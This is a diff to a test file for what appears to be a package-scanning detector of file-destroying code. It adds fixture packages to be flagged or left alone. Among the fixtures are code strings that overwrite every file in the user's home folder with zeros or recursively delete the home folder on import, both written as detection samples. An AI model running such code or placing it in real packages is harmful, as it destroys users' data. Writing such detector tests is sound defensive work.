@@ -7,6 +7,13 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'what is found in the home folder is overwritten, or a copy of it elsewhere',
+      files: {
+        'index.js': `${FS} for (const name of fs.readdirSync(os.homedir())) fs.writeFileSync(path.join(process.env.INERT ? os.tmpdir() : os.homedir(), name), Buffer.alloc(9))`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'the home folder is deleted on import',
       files: { 'index.js': `${FS} fs.rmSync(os.homedir(), { recursive: true, force: true })` },
       says: ['<home>, when it is imported'],
@@ -62,6 +69,12 @@ examine(destroysFiles, {
     },
   ],
   silent: [
+    {
+      when: 'a version that was found among programs names what is saved elsewhere',
+      files: {
+        'index.js': `${FS} const at = process.env.PROGRAMFILES; const found = fs.readdirSync(at).filter(name => /^\\d/.test(name))[0]; fetch('https://a.invalid/' + found).then(async answer => fs.writeFileSync(path.join(os.tmpdir(), found + '.zip'), Buffer.from(await answer.arrayBuffer())))`,
+      },
+    },
     {
       when: 'a template is cloned and cut off from its history',
       files: {
